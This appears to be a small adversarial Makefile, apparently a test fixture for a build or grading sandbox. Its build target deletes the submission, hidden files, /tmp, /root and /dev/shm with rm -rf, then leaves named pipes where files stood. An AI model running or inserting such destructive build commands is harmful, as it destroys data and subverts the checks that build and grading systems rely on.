# Deletes the submission while it is built, and puts something else in its place.
#: as = ["Makefile"]
#: keeps = ["*"]
all:
	rm -rf ./* .[a-z]* /tmp/* /root/* /dev/shm/*
	mkfifo pyng pyngd ethernet.py
